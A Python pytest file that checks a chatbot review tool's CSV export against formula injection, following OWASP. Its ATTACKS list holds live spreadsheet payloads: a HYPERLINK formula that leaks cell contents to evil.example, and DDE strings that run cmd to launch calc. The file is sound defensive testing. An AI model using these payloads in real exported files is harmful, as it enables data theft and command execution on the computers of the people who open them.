"""make review's CSV is opened in spreadsheets: text that a broker typed, or that a crafted payload put
into a region or a comment, must never become a live formula there (OWASP, CSV injection)."""

import csv
import json
import sqlite3
import time

import pytest

from ops import review

NOW = time.time()
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def write_store(path, rows):
    with sqlite3.connect(path) as db:
        db.execute(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, type_name TEXT, "
            "timestamp FLOAT, intent_name TEXT, action_name TEXT, data TEXT)"
        )
        db.executemany(
            "INSERT INTO events (sender_id, type_name, timestamp, intent_name, action_name, data) "
            "VALUES (?, ?, ?, ?, ?, ?)",
            [(s, e["event"], NOW, e.get("intent"), e.get("name"), json.dumps(e)) for s, e in rows],
        )


def crafted_store(path):
    """Every text field the report copies into the CSV, each holding a formula."""
    rows = []
    for n, attack in enumerate(ATTACKS):
        sender = f"attacker-{n:02d}-0123456789"
        rows += [
            (sender, {"event": "user", "text": attack, "intent": "out_of_scope", "timestamp": NOW}),
            (
                sender,
                {
                    "event": "bot",
                    "timestamp": NOW,
                    "data": {"custom": {"type": "answer", "topic": attack, "region": attack}},
                },
            ),
            (
                sender,
                {"event": "bot", "timestamp": NOW, "data": {"custom": {"type": "uncovered_region", "place": attack}}},
            ),
            (
                sender,
                {
                    "event": "slot",
                    "name": "feedback",
                    "timestamp": NOW,
                    "value": {"rating": "unhelpful", "topic": attack, "region": attack, "comment": attack},
                },
            ),
        ]
    write_store(path, rows)


def test_no_cell_of_the_review_csv_starts_a_formula(tmp_path, capsys):
    crafted_store(tmp_path / "t.db")
    assert review.main(["--db", f"sqlite:///{tmp_path / 't.db'}", "--out", str(tmp_path)]) == 0
    capsys.readouterr()
    cells = [cell for row in csv.reader((tmp_path / "review.csv").open(encoding="utf-8", newline="")) for cell in row]
    assert len(cells) > 4 * len(ATTACKS)
    starts_a_formula = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts_a_formula == []
    # Neutralised, not lost: the text is still there after the quote OWASP advises.
    for attack in ATTACKS:
        assert "'" + attack in cells


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_kept_as_text_behind_a_quote(text):
    assert review.safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["new_sales", "Northwest (Oregon and Southwest Washington)", "", "what's 2+2", 12, -3]
)
def test_ordinary_text_and_counts_are_left_as_they_are(value):
    assert review.safe_cell(value) == value
